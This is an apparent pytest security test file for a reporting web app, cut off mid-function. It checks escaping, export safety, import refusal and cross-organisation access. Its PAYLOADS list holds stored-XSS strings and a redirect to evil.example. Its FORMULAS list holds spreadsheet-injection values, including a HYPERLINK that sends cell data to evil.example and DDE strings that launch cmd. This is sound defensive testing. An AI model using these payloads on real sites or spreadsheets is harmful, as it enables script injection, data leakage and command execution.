"""Hostile input, as an attacker with an account would send it: sweeps rather than single cases.

- Markup and script in every text a user can write, stored through the real services and
  routes, comes out of every page as text (parsed with an HTML parser: no element, attribute or
  URL the payload brought) and out of every export as literal text (opened with its reader).
- Text that a spreadsheet would run as a formula is never a formula in a spreadsheet export.
- Bad import files are refused with a message that says what and where, and the database is
  left exactly as it was (a dump of every table before and after).
- An editor of one organisation reaches nothing of another organisation's, or of another
  user's, by id: activities, imports, jobs, files, review notes, tokens, through pages and API.
- Two saves on the same version: exactly one succeeds (the concurrent version is in the load
  tests; this is the sequential rule).
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from html import escape as html_escape
from typing import Any
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from docx import Document
from fastapi.testclient import TestClient
from odf.opendocument import load as load_odf
from odf.table import TableCell
from odf.text import P
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import MetaData, select
from sqlmodel import Session

from app.accounts.service import create_api_token
from app.activities import service as activities
from app.activities.models import Status, StatusUpdate
from app.config import Settings
from app.exports import service as exports
from app.i18n import translations_for
from app.jobs import service as jobs
from app.jobs.models import Job
from app.main import create_app
from app.periods import service as periods
from app.programmes import service as structure
from app.programmes.models import ActionLine, Activity, Organisation, Result, Theme
from app.review import service as review
from tests.cli import run_cli
from tests.factories import (
    create_user,
    csrf_from,
    current_user,
    open_round,
    organisation_activities,
    publish,
    sign_in,
    update_round,
)
from tests.test_board import SLUG
from tests.test_imports import World as ImportWorld
from tests.test_imports import export_records, write_file

# -- 1. markup and script in every text --------------------------------------------------------

# Each carries its own marker (xss-N) so a page that shows it can be told from one that does not.
PAYLOADS = [
    '<script>alert("xss-1")</script>',
    '"><img src=x onerror=alert("xss-2")>',
    "'><svg onload=alert('xss-3')>",
    "javascript:alert('xss-4')",
    '</textarea></title><script>alert("xss-5")</script>',
    "{{ 7*191 }} {% if 1 %}xss-6{% endif %} ${7*191}",
    "<iframe src=\"javascript:alert('xss-7')\"></iframe>",
    "<a href=\"javascript:alert('xss-8')\">klik xss-8</a>",
    '" onmouseover="alert(\'xss-9\')" data-x="',
    "' onfocus='alert(10)' autofocus='xss-10",
    "<style>body{display:none}</style>xss-11",
    "\uff1cscript\uff1ealert('xss-12')\uff1c/script\uff1e \u0430lert \u2028\u2029",
    '<!--xss-13--><base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil">',
    "&lt;script&gt;alert('xss-14')&lt;/script&gt; <details open ontoggle=alert(14)>",
]
MARKERS = [f"xss-{number}" for number in range(1, len(PAYLOADS) + 1)]
# Elements no page of the app writes and some payload brings.
# (The app draws its charts as inline SVG: an <svg> is only foreign with a handler on it.)
FOREIGN_ELEMENTS = {"iframe", "base", "math", "object", "embed", "style"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


def _squash(text: str) -> str:
    return re.sub(r"\s+", "", text)


def _own_script(src: str) -> bool:
    """A script file of the app's own: /static/ on the app's own host."""
    address = urlsplit(src)
    return (
        address.scheme in ("", "http")
        and address.netloc in ("", "testserver")
        and (address.path.startswith("/static/"))
    )


def injected(html: str) -> list[str]:
    """What a page holds that a payload brought: elements, event handlers, script URLs."""
    page = BeautifulSoup(html, "html.parser")
    found = []
    for element in page.find_all(True):
        name = element.name.lower()
        if name == "script" and not _own_script(element.get("src") or ""):
            found.append(f"<script> {str(element)[:80]}")
        if name in FOREIGN_ELEMENTS:
            found.append(f"<{name}> {str(element)[:80]}")
        if name == "img" and element.get("src") == "x":
            found.append(f"<img src=x> {str(element)[:80]}")
        if name == "meta" and element.get("http-equiv"):
            found.append(f"<meta http-equiv> {str(element)[:80]}")
        for attribute, value in element.attrs.items():
            if attribute.lower().startswith("on"):
                found.append(f"{name}[{attribute}] {str(element)[:80]}")
            url = re.sub(r"[\s\x00-\x1f]", "", value).lower() if isinstance(value, str) else ""
            if attribute.lower() in URL_ATTRIBUTES and url.startswith("javascript:"):
                found.append(f"{name}[{attribute}={value[:40]}]")
    # A comment is where <!-- would have hidden the rest of a page.
    found += [
        f"comment {comment[:40]}"
        for comment in re.findall(r"<!--(.*?)-->", html)
        if "xss" in comment
    ]
    return found


def shown(html: str) -> set[str]:
    """The payloads a page shows as text, whole (whitespace aside)."""
    page = BeautifulSoup(html, "html.parser")
    text_and_values = page.get_text() + " ".join(
        str(value)
        for element in page.find_all(True)
        for attribute, value in element.attrs.items()
        if attribute in ("value", "title", "aria-label", "content", "alt", "placeholder")
    )
    squashed = _squash(text_and_values)
    return {
        marker
        for marker, payload in zip(MARKERS, PAYLOADS, strict=True)
        if _squash(payload) in squashed
    }


@dataclass
class HostileWorld:
    """A programme whose every user-written text is a payload, and the places they show."""

    app: Any
    session: Session
    published_id: int  # written, reviewed, published, corrected and republished
    open_id: int  # the next round, open, with an import applied
    activity_ids: list[int]
    action_line: int
    result: int
    editor_email: str
    admin_email: str
    jobs: list[int] = field(default_factory=list)
    texts: dict[str, str] = field(default_factory=dict)  # where → payload, for the record


def _payload(number: int) -> str:
    return PAYLOADS[number % len(PAYLOADS)]


def _save(session: Session, world_round: Any, activity_id: int, period_id: int, text: str) -> Any:
    current = activities.latest_update(session, activity_id=activity_id, period_id=period_id)
    return activities.record_status(
        session,
        activity_id=activity_id,
        period_id=period_id,
        status=Status.delayed,
        explanation=text,
        author=world_round.editor,
        based_on_version=current.version if current else None,
    )


def _client(app: Any, email: str) -> TestClient:
    client = TestClient(app)
    sign_in(client, email)
    return client


def build_hostile_world(app: Any, session: Session) -> HostileWorld:
    texts: dict[str, str] = {}
    admin_email = create_user(session, "admin", name=_payload(0))
    texts["admin name"] = _payload(0)
    admin = current_user(session, admin_email)
    start = update_round(session, name=_payload(1))
    texts["period name"] = _payload(1)
    # The editor's display name: shown in histories, review notes, the admin's users page.
    editor_email = create_user(session, "editor", ("Politie",), name=_payload(2))
    texts["editor name"] = _payload(2)
    editor = current_user(session, editor_email)
    world_round = type(start)(**{**start.__dict__, "editor_email": editor_email, "editor": editor})
    police = start.activities
    first = session.get(Activity, police[0])
    assert first is not None
    result = session.get(Result, first.result_id)
    assert result is not None
    theme = session.get(Theme, result.theme_id)
    assert theme is not None
    action_line = session.get(ActionLine, theme.action_line_id)
    assert action_line is not None

    # Titles and organisation names, through the admin's structure service.
    for number, (kind, item_id) in enumerate(
        [("action_line", action_line.id), ("theme", theme.id), ("result", result.id)]
        + [("activity", activity_id) for activity_id in police[:4]],
        start=3,
    ):
        structure.rename(session, actor=admin, kind=kind, item_id=item_id, title=_payload(number))
        texts[f"{kind} {item_id} title"] = _payload(number)
    for number, code in enumerate(("Politie", "KMar"), start=10):
        organisation = session.scalar(select(Organisation).where(Organisation.code == code))
        assert organisation is not None, code
        structure.rename_organisation(
            session, actor=admin, organisation_id=organisation.id, name=_payload(number)
        )
        texts[f"organisation {code}"] = _payload(number)
    session.commit()

    # Explanations, a send-back and the editor's reply, publication.
    published_id = start.period_id
    updates = [
        _save(session, world_round, activity_id, published_id, _payload(number))
        for number, activity_id in enumerate(police[: len(PAYLOADS)])
    ]
    session.commit()
    texts.update({f"explanation {u.activity_id}": u.explanation for u in updates[2:]})
    # Sent back and not approved: not published. Corrected below: published no more.
    texts["proposal sent back"], texts["proposal corrected"] = (
        updates[0].explanation,
        updates[1].explanation,
    )
    periods.move_period(session, period_id=published_id, move="review", actor=start.coordinator)
    review.send_back(
        session, status_update_id=updates[0].id, reviewer=start.coordinator, comment=_payload(5)
    )
    review.reply(session, status_update_id=updates[0].id, author=editor, comment=_payload(6))
    texts["review comment"], texts["review reply"] = _payload(5), _payload(6)
    for update in updates[1:]:
        review.approve(session, status_update_id=update.id, reviewer=start.coordinator)
    session.commit()
    publish(session, period_id=published_id, actor=start.coordinator)
    session.commit()

    # A correction of the published report, with its reason.
    periods.move_period(
        session,
        period_id=published_id,
        move="correct",
        actor=start.coordinator,
        reason=_payload(7),
    )
    texts["correction reason"] = _payload(7)
    corrected = _save(session, world_round, police[1], published_id, _payload(8) + " (correctie)")
    review.approve(session, status_update_id=corrected.id, reviewer=start.coordinator)
    texts["correction"] = corrected.explanation
    session.commit()
    publish(session, period_id=published_id, actor=start.coordinator)
    session.commit()

    # The next round, with explanations and an import whose cells are payloads.
    open_id = open_round(
        session,
        name=_payload(9) + " 2023",
        reference_date="2023-11-01",
        actor=start.coordinator,
    )
    texts["open period name"] = _payload(9) + " 2023"
    for number, activity_id in enumerate(police[:3], start=11):
        _save(session, world_round, activity_id, open_id, _payload(number))
    session.commit()
    world = HostileWorld(
        app=app,
        session=session,
        published_id=published_id,
        open_id=open_id,
        activity_ids=police,
        action_line=action_line.number,
        result=result.number,
        editor_email=editor_email,
        admin_email=admin_email,
        texts=texts,
    )
    records = export_records(session, open_id)
    imported = [record for record in records if record["activity_id"] in police[3:8]]
    assert imported
    for number, record in enumerate(imported, start=1):
        record["explanation"] = _payload(number) + " (import)"
    with _client(app, editor_email) as client:
        token = csrf_from(client.get(f"/periods/{open_id}/import").text)
        response = client.post(
            f"/periods/{open_id}/import",
            data={"csrftoken": token},
            files={"file": ("<b>xss</b>.xlsx", write_file("xlsx", imported), "application/zip")},
            headers={"x-csrftoken": token},
            follow_redirects=False,
        )
        assert response.status_code == 303, response.text[:500]
        preview_id = int(response.headers["location"].rsplit("/", 1)[-1])
        page = client.get(f"/jobs/{preview_id}")
        applied = client.post(
            f"/jobs/{preview_id}/apply",
            data={"csrftoken": csrf_from(page.text), "confirmations": "leave"},
            follow_redirects=False,
        )
        assert applied.status_code == 303, applied.text[:500]
        world.jobs += [preview_id, int(applied.headers["location"].rsplit("/", 1)[-1])]
        exported = client.post(
            f"/periods/{published_id}/exports",
            data={"csrftoken": csrf_from(page.text), "format": "xlsx"},
            follow_redirects=False,
        )
        assert exported.status_code == 303, exported.text[:500]
        world.jobs.append(int(exported.headers["location"].rsplit("/", 1)[-1]))
    texts.update({f"import {r['activity_id']}": r["explanation"] for r in imported})
    return world


@pytest.fixture
def hostile(seeded_settings: Settings) -> Iterator[HostileWorld]:
    app = create_app(seeded_settings)
    with Session(app.state.engine, expire_on_commit=False) as session:
        yield build_hostile_world(app, session)
    app.state.engine.dispose()


def _pages(world: HostileWorld) -> list[tuple[str, str]]:
    """(who, path) of every page that shows what the world wrote."""
    first, second = world.activity_ids[:2]
    published, current = world.published_id, world.open_id
    return [
        ("admin", "/"),
        ("admin", f"/programmes/{SLUG}"),
        ("admin", f"/programmes/{SLUG}?period={published}"),
        ("admin", f"/programmes/{SLUG}/action-lines/{world.action_line}"),
        ("admin", f"/programmes/{SLUG}/results/{world.result}"),
        ("admin", f"/programmes/{SLUG}/activities"),
        ("admin", f"/programmes/{SLUG}/activities?period={published}&q=xss"),
        ("admin", f"/programmes/{SLUG}/summary"),
        ("admin", f"/activities/{first}"),
        ("admin", f"/activities/{second}/history"),
        ("admin", f"/activities/{first}/row"),
        ("editor", f"/activities/{first}/edit"),
        ("admin", f"/programmes/{SLUG}/periods"),
        ("admin", f"/periods/{published}"),
        ("admin", f"/periods/{current}"),
        ("admin", f"/periods/{current}/progress"),
        ("editor", f"/periods/{current}/todo"),
        ("admin", f"/periods/{current}/review"),
        ("admin", f"/programmes/{SLUG}/compare?from={published}&to={current}"),
        ("editor", f"/periods/{current}/import"),
        *[("editor", f"/jobs/{job_id}") for job_id in world.jobs],
        ("editor", "/account"),
        ("admin", "/admin/users"),
        ("admin", "/admin/audit"),
        ("admin", f"/admin/programmes/{SLUG}/structure"),
        ("admin", "/admin/organisations"),
        ("visitor", "/public/"),
        ("visitor", f"/public/{SLUG}/"),
        ("visitor", f"/public/{SLUG}/{published}"),
        ("visitor", f"/public/{SLUG}/{published}/action-lines/{world.action_line}"),
        ("visitor", f"/public/{SLUG}/{published}/table"),
        ("visitor", f"/public/{SLUG}/{published}/data"),
        ("visitor", "/public/search?q=alert"),
        ("visitor", "/public/search?q=" + PAYLOADS[1]),
    ]


def test_no_payload_becomes_markup_on_any_page(hostile: HostileWorld) -> None:
    pages = _pages(hostile)
    assert len(pages) >= 26
    problems: dict[str, list[str]] = {}
    seen: set[str] = set()
    clients = {
        "admin": _client(hostile.app, hostile.admin_email),
        "editor": _client(hostile.app, hostile.editor_email),
        "visitor": TestClient(hostile.app),
    }
    for who, path in pages:
        response = clients[who].get(path)
        assert response.status_code == 200, (who, path, response.status_code)
        assert response.headers["content-type"].startswith("text/html"), path
        if found := injected(response.text):
            problems[path] = found
        on_page = shown(response.text)
        assert on_page, f"{path} shows none of the payloads"  # the sweep reached the page
        seen |= on_page
        # Template syntax in the data stays text: nothing evaluated it (7*191).
        assert "1337" not in response.text, path
    assert problems == {}
    assert seen == set(MARKERS)  # every payload was shown somewhere, as text


def _docx_text(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    parts = [paragraph.text for paragraph in document.paragraphs]
    parts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join(parts)


def _odf_text(content: bytes) -> str:
    document = load_odf(io.BytesIO(content))
    return "\n".join(str(paragraph) for paragraph in document.getElementsByType(P))


def _pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def _xlsx_text(content: bytes) -> str:
    workbook = load_workbook(io.BytesIO(content))
    return "\n".join(
        str(cell.value)
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    )


def _csv_text(content: bytes) -> str:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return "\n".join(value for row in rows for value in row)


def _json_text(content: bytes) -> str:
    def strings(value: Any) -> Iterator[str]:
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict):
            for item in value.values():
                yield from strings(item)
        elif isinstance(value, list):
            for item in value:
                yield from strings(item)

    return "\n".join(strings(json.loads(content)))


READERS = {
    "docx": _docx_text,
    "odt": _odf_text,
    "pdf": _pdf_text,
    "xlsx": _xlsx_text,
    "ods": _odf_text,
    "csv": _csv_text,
    "json": _json_text,
}


def test_every_export_shows_the_payloads_as_literal_text(hostile: HostileWorld) -> None:
    assert set(READERS) == set(exports.FORMATS)
    session = hostile.session
    titles = [
        payload
        for where, payload in hostile.texts.items()
        if where.startswith(("action_line", "theme", "result", "activity", "organisation"))
    ]
    missing = []
    for period_id, kinds in (
        (hostile.published_id, ("explanation", "correction")),
        (hostile.open_id, ("import",)),
    ):
        expected = titles + [
            text for where, text in hostile.texts.items() if where.startswith(kinds)
        ]
        for fmt, read in READERS.items():
            _, _, content = exports.export(
                session, period_id=period_id, fmt=fmt, organisations=True
            )
            # The apostrophe: the spreadsheets' mark of a text that starts like a formula.
            squashed = _squash(read(content).replace("\x00", "")).replace("'", "")
            missing += [
                (period_id, fmt, text)
                for text in expected
                if _squash(text).replace("'", "") not in squashed
                # pypdf maps the glyphs of WeasyPrint's fallback font for fullwidth and
                # Cyrillic letters back wrongly (pdftotext reads them right); the markup
                # around them is checked in the other payloads.
                and not (fmt == "pdf" and "xss-12" in text)
            ]
    assert missing == [], "\n".join(map(repr, missing))
    # The public summary's PDF: the summary in words, written around the titles and names.
    job = periods.queue_documents(session, period_id=hostile.published_id, actor=None)
    session.commit()
    assert jobs.run(hostile.app.state.engine, job.id, settings=hostile.app.state.settings)
    visitor = TestClient(hostile.app)
    summary = visitor.get(f"/public/{SLUG}/{hostile.published_id}/summary.pdf")
    assert summary.status_code == 200 and summary.headers["content-type"] == "application/pdf"
    squashed = _squash(_pdf_text(summary.content).replace("\x00", ""))
    in_summary = [p for p in PAYLOADS if _squash(p) in squashed]
    # The period's name, the action line's and activities' titles, as literal text.
    assert hostile.texts["period name"] in in_summary and len(in_summary) >= 5, in_summary


def test_the_detector_finds_each_payload_where_it_would_be_markup() -> None:
    """The page sweep is only as good as `injected`: written into a page unescaped, in the
    places a template puts text, every payload but the two that are harmless as markup (the
    template syntax and the lookalike letters, checked as text) is found."""
    contexts = [
        "<p>{}</p>",
        '<input value="{}">',
        "<input value='{}'>",
        '<a href="{}">x</a>',
        "<textarea>{}</textarea>",
    ]
    for marker, payload in zip(MARKERS, PAYLOADS, strict=True):
        found = [context for context in contexts if injected(context.format(payload))]
        if marker in ("xss-6", "xss-12"):
            assert found == [], marker
        else:
            assert found, marker
        # Escaped, it is text (a URL attribute is never given user text: the sweep checks it).
        escaped = html_escape(payload)
        assert all(injected(c.format(escaped)) == [] for c in contexts if "href" not in c), marker


# -- 2. no formula in a spreadsheet ----------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _formula_world(app: Any, session: Session) -> tuple[int, TestClient]:
    """A published period whose explanations, titles, organisation and account names start
    like formulas (the audit log has them too), written through the services and the API."""
    admin_email = create_user(session, "admin", name=FORMULAS[0])
    admin = current_user(session, admin_email)
    start = update_round(session, name=FORMULAS[3] + " 2022")
    police = start.activities
    for number, activity_id in enumerate(police[: len(FORMULAS)]):
        structure.rename(
            session, actor=admin, kind="activity", item_id=activity_id, title=FORMULAS[number]
        )
    organisation = session.scalar(select(Organisation).where(Organisation.code == "Politie"))
    assert organisation is not None
    structure.rename_organisation(
        session, actor=admin, organisation_id=organisation.id, name=FORMULAS[1]
    )
    session.commit()
    token, secret = create_api_token(session, start.editor, name="formules")
    session.commit()
    api = TestClient(app, headers={"Authorization": f"Bearer {secret}"})
    for number, activity_id in enumerate(police[: len(FORMULAS)]):
        current = activities.latest_update(
            session, activity_id=activity_id, period_id=start.period_id
        )
        response = api.patch(
            f"/api/v1/activities/{activity_id}/status",
            json={
                "status": "delayed",
                "explanation": FORMULAS[-1 - number],
                "based_on_version": current.version if current else None,
            },
        )
        assert response.status_code == 200, response.text
    periods.move_period(session, period_id=start.period_id, move="review", actor=start.coordinator)
    publish(session, period_id=start.period_id, actor=start.coordinator)
    session.commit()
    return start.period_id, _client(app, admin_email)


def _started_like_a_formula(values: list[str]) -> list[str]:
    return [value for value in values if value.startswith(TRIGGERS)]


def test_no_export_has_a_formula_cell(seeded_settings: Settings) -> None:
    app = create_app(seeded_settings)
    with Session(app.state.engine, expire_on_commit=False) as session:
        period_id, admin = _formula_world(app, session)
        visitor = TestClient(app)
        files = {
            fmt: exports.export(session, period_id=period_id, fmt=fmt)[2]
            for fmt in ("xlsx", "ods", "csv")
        }
    files["open data csv"] = visitor.get(f"/public/{SLUG}/{period_id}/data.csv").content
    files["audit csv"] = admin.get("/admin/audit.csv").content
    app.state.engine.dispose()

    workbook = load_workbook(io.BytesIO(files["xlsx"]))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    xlsx_texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert _started_like_a_formula(xlsx_texts) == []

    content = zipfile.ZipFile(io.BytesIO(files["ods"])).read("content.xml")
    assert b"table:formula" not in content
    document = load_odf(io.BytesIO(files["ods"]))
    ods_texts = [str(cell) for cell in document.getElementsByType(TableCell)]
    assert _started_like_a_formula(ods_texts) == []

    csv_texts = {
        name: [
            value
            for row in csv.reader(io.StringIO(files[name].decode("utf-8-sig")))
            for value in row
        ]
        for name in ("csv", "open data csv", "audit csv")
    }
    for name, values in csv_texts.items():
        assert _started_like_a_formula(values) == [], name
    # Neutralised, not lost: each value is there, behind its apostrophe.
    tables = {"xlsx": xlsx_texts, "ods": ods_texts, "csv": csv_texts["csv"]}
    for name, values in {**tables, "open data csv": csv_texts["open data csv"]}.items():
        for formula in FORMULAS[:4]:
            assert "'" + formula in values, (name, formula)
    assert "'" + FORMULAS[3] + " 2022" in csv_texts["audit csv"]  # the period's creation


# -- 3. bad import files: refused, saying what and where, with nothing changed ----------------


def database_dump(engine: Any) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table, in a fixed order: two dumps are equal when nothing changed."""
    metadata = MetaData()
    metadata.reflect(engine)
    with engine.connect() as connection:
        return {
            name: sorted(
                (tuple(repr(value) for value in row) for row in connection.execute(table.select())),
            )
            for name, table in sorted(metadata.tables.items())
        }


def _xlsx_without_its_sheet(records: list[dict[str, Any]]) -> bytes:
    """An XLSX whose workbook names a sheet the archive does not hold."""
    source = zipfile.ZipFile(io.BytesIO(write_file("xlsx", records)))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(item, source.read(item))
    return output.getvalue()


def _edited(records: list[dict[str, Any]], row: int, **values: Any) -> list[dict[str, Any]]:
    edited = [dict(record) for record in records]
    edited[row].update(values)
    return edited


# name → (file name, content from the round's records, what the refusal says)
BAD_IMPORTS: dict[str, tuple[str, Any, list[str]]] = {
    "not a spreadsheet": (
        "notulen.xlsx",
        lambda r: b"%PDF-1.7\n%%EOF\n",
        ["notulen.xlsx is geen geldig XLSX-bestand"],
    ),
    "wrong columns": (
        "kolommen.csv",
        lambda r: b"activiteit,tekst\n1,Klaar\n",
        ["Kolommen ontbreken: Activiteit-id (activity_id), Versie (version)"],
    ),
    "unknown activity": (
        "onbekend.xlsx",
        lambda r: write_file("xlsx", _edited(r, 0, activity_id=999999)),
        ["Activiteit-id (A): Er is geen activiteit 999999", "nothing was changed"],
    ),
    "bad status": (
        "status.ods",
        lambda r: write_file("ods", _edited(r, 0, status="bijna klaar", explanation="Anders.")),
        ["Stand van zaken (J): Onbekende stand van zaken 'bijna klaar'"],
    ),
    "duplicate rows": (
        "dubbel.csv",
        lambda r: write_file("csv", [*r, _edited(r, 0, explanation="Nog eens.")[0]]),
        ["activity_id (A): Activiteit 1 staat ook in rij 2"],
    ),
    "empty file": ("leeg.csv", lambda r: b"", ["leeg.csv is leeg"]),
    "wrong encoding": (
        "latin.csv",
        lambda r: "activity_id,version,status,explanation\n1,1,completed,Café\n".encode("cp1252"),
        ["geen UTF-8-tekst"],
    ),
    "truncated zip": (
        "kapot.ods",
        lambda r: write_file("ods", r)[:2000],
        ["kapot.ods is geen geldig ODS-bestand"],
    ),
    # (The message does not say that the sheet is missing: it reads as a sheet without rows.)
    "sheet missing": ("zonder-blad.xlsx", _xlsx_without_its_sheet, ["Kolommen ontbreken"]),
    "explanation too long": (
        "lang.xlsx",
        lambda r: write_file("xlsx", _edited(r, 0, explanation="x" * 5001)),
        ["Toelichting (K): De toelichting is 5001 tekens lang"],
    ),
    "version not a number": (
        "versie.csv",
        lambda r: write_file("csv", _edited(r, 0, version="twee")),
        ["version (B)", "'twee' is geen versienummer"],
    ),
}


@pytest.mark.parametrize("kind", BAD_IMPORTS)
def test_a_bad_import_is_refused_and_changes_nothing(
    seeded_settings: Settings, tmp_path: Any, kind: str
) -> None:
    filename, build, said = BAD_IMPORTS[kind]
    app = create_app(seeded_settings)
    with Session(app.state.engine, expire_on_commit=False) as session:
        world = ImportWorld(session)
        # Each row-level refusal is in an otherwise good file, on the editor's own activity.
        own = [record for record in world.records if record["activity_id"] in world.police]
        content = build(own)
    path = tmp_path / filename
    path.write_bytes(content)
    before = database_dump(app.state.engine)
    result = run_cli(
        "import",
        str(path),
        "--period",
        str(world.period_id),
        "--as",
        world.editor_email,
        "--apply",
        env={"DATABASE_URL": seeded_settings.database_url},
    )
    assert result.exit_code == 1
    for words in said:
        assert words in result.stdout + result.stderr, kind
    assert database_dump(app.state.engine) == before

    # Through the web: refused on the form, or by the preview job, and never applied; what is
    # kept is the preview (its job and the uploaded file) and nothing else.
    with _client(app, world.editor_email) as client:
        token = csrf_from(client.get(f"/periods/{world.period_id}/import").text)
        before = database_dump(app.state.engine)  # signed in (a session, its audit event)
        upload = client.post(
            f"/periods/{world.period_id}/import",
            data={"csrftoken": token},
            files={"file": (filename, content, "application/octet-stream")},
            follow_redirects=False,
        )
        if upload.status_code == 303:
            job_page = client.get(upload.headers["location"])
            message = BeautifulSoup(job_page.text, "html.parser").get_text()
            applied = client.post(
                upload.headers["location"] + "/apply",
                data={"csrftoken": token, "confirmations": "include"},
            )
            assert applied.status_code in (409, 422), (kind, applied.status_code)
            kept = {"job", "stored_file"}
        else:
            assert upload.status_code == 422, (kind, upload.status_code)
            message = BeautifulSoup(upload.text, "html.parser").get_text()
            kept = set()
    for words in said:
        if "nothing was changed" not in words:  # the command line's own words
            assert _squash(words) in _squash(message), (kind, words)
    after = database_dump(app.state.engine)
    assert {name for name in before if before[name] != after[name]} <= kept, kind
    app.state.engine.dispose()


# -- 4. object-level authorisation: nothing of another organisation's or user's by id ---------

NOT_YOURS = translations_for("nl").gettext(
    "Only editors of the organisations carrying out this activity may change it."
)
# Rows a request may add whoever makes it (sessions, sign-ins, the data revision's readers).
REQUEST_BOOKKEEPING = {"user_session", "sign_in_attempt", "api_token"}


def _dump_but_bookkeeping(engine: Any) -> dict[str, list[tuple[Any, ...]]]:
    return {
        name: rows
        for name, rows in database_dump(engine).items()
        if name not in REQUEST_BOOKKEEPING
    }


@dataclass
class TwoOrganisations:
    app: Any
    period_id: int
    a_email: str
    a_token: str
    b_activities: list[int]  # the other organisation's, none of A's
    b_versions: dict[int, int]
    b_preview_job: int
    b_upload_file: int
    b_export_job: int
    b_export_file: int
    b_token_id: int
    b_token: str
    b_proposal: int  # a version of B's, sent back to B in the test
    a_activity: int  # one of A's own
    coordinator: Any


@pytest.fixture
def two_organisations(seeded_settings: Settings) -> Iterator[TwoOrganisations]:
    """Editors of the police (A) and of Foreign Affairs (B) in one open round; B has an import
    preview, a draft export, an API token and a proposal."""

    app = create_app(seeded_settings)
    with Session(app.state.engine, expire_on_commit=False) as session:
        start = update_round(session, organisation="Politie")
        b_email = create_user(session, "editor", ("BZ",))
        b_user = current_user(session, b_email)
        police = set(start.activities)
        b_activities = [a for a in organisation_activities(session, "BZ") if a not in police][:6]
        assert len(b_activities) == 6
        _, a_token = create_api_token(session, start.editor, name="A")
        b_token_row, b_token = create_api_token(session, b_user, name="B")
        proposal = activities.record_status(
            session,
            activity_id=b_activities[0],
            period_id=start.period_id,
            status=Status.delayed,
            explanation="Voorstel van B.",
            author=b_user,
            based_on_version=1,
        )
        session.commit()
        records = [
            r for r in export_records(session, start.period_id) if r["activity_id"] in b_activities
        ]
        with _client(app, b_email) as b:
            token = csrf_from(b.get(f"/periods/{start.period_id}/import").text)
            upload = b.post(
                f"/periods/{start.period_id}/import",
                data={"csrftoken": token},
                files={"file": ("b.csv", write_file("csv", records), "text/csv")},
                follow_redirects=False,
            )
            assert upload.status_code == 303, upload.text[:300]
            preview_job = int(upload.headers["location"].rsplit("/", 1)[-1])
            export = b.post(
                f"/periods/{start.period_id}/exports",
                data={"csrftoken": token, "format": "csv"},
                follow_redirects=False,
            )
            assert export.status_code == 303, export.text[:300]
            export_job = int(export.headers["location"].rsplit("/", 1)[-1])
        preview, exported = session.get(Job, preview_job), session.get(Job, export_job)
        assert preview is not None and exported is not None and exported.file_id
        versions = {
            activity_id: activities.latest_update(
                session, activity_id=activity_id, period_id=start.period_id
            ).version  # type: ignore[union-attr]
            for activity_id in b_activities
        }
        yield TwoOrganisations(
            app=app,
            period_id=start.period_id,
            a_email=start.editor_email,
            a_token=a_token,
            b_activities=b_activities,
            b_versions=versions,
            b_preview_job=preview_job,
            b_upload_file=preview.params["file_id"],
            b_export_job=export_job,
            b_export_file=exported.file_id,
            b_token_id=b_token_row.id,  # type: ignore[arg-type]
            b_token=b_token,
            b_proposal=proposal.id,  # type: ignore[arg-type]
            a_activity=start.activities[0],
            coordinator=start.coordinator,
        )
    app.state.engine.dispose()


def test_an_editor_reaches_nothing_of_another_organisation_by_id(
    two_organisations: TwoOrganisations,
) -> None:
    world = two_organisations
    a = _client(world.app, world.a_email)
    csrf = csrf_from(a.get("/account").text)
    api = TestClient(world.app, headers={"Authorization": f"Bearer {world.a_token}"})
    before = _dump_but_bookkeeping(world.app.state.engine)
    checks: list[tuple[str, int, tuple[int, ...]]] = []  # (what, status, allowed statuses)

    def check(what: str, response: Any, allowed: tuple[int, ...] = (403, 404)) -> None:
        checks.append((what, response.status_code, allowed))

    # Each check is refused for the organisation, not for something else: the same requests
    # for A's own activity get through to the version check (a stale version: 409).
    for activity_id in [*world.b_activities, world.a_activity]:
        own = activity_id == world.a_activity
        version = "99" if own else str(world.b_versions[activity_id])
        check(
            f"edit form {activity_id}",
            a.get(f"/activities/{activity_id}/edit"),
            (200,) if own else (403, 404),
        )
        form = {
            "csrftoken": csrf,
            "period_id": str(world.period_id),
            "status": "completed",
            "explanation": "Door A.",
            "based_on_version": version,
        }
        refused = (409,) if own else (403, 404)
        check(
            f"save {activity_id}", a.post(f"/activities/{activity_id}/status", data=form), refused
        )
        check(
            f"save htmx {activity_id}",
            a.post(f"/activities/{activity_id}/status", data=form, headers={"HX-Request": "true"}),
            refused,
        )
        check(
            f"API PATCH {activity_id}",
            api.patch(
                f"/api/v1/activities/{activity_id}/status",
                json={
                    "status": "completed",
                    "explanation": "Door A.",
                    "based_on_version": int(version),
                },
            ),
            refused,
        )
        # Confirming several at once answers 422 with the reason per activity.
        confirm = a.post(
            f"/periods/{world.period_id}/todo/confirm",
            data={"csrftoken": csrf, "confirm": f"{activity_id}:{version}"},
        )
        check(f"confirm {activity_id}", confirm, (422,))
        assert (NOT_YOURS in BeautifulSoup(confirm.text, "html.parser").get_text()) != own
    for path in (
        f"/jobs/{world.b_preview_job}",
        f"/jobs/{world.b_export_job}",
        f"/files/{world.b_upload_file}",
        f"/files/{world.b_export_file}",
    ):
        check(f"GET {path}", a.get(path))
    check(
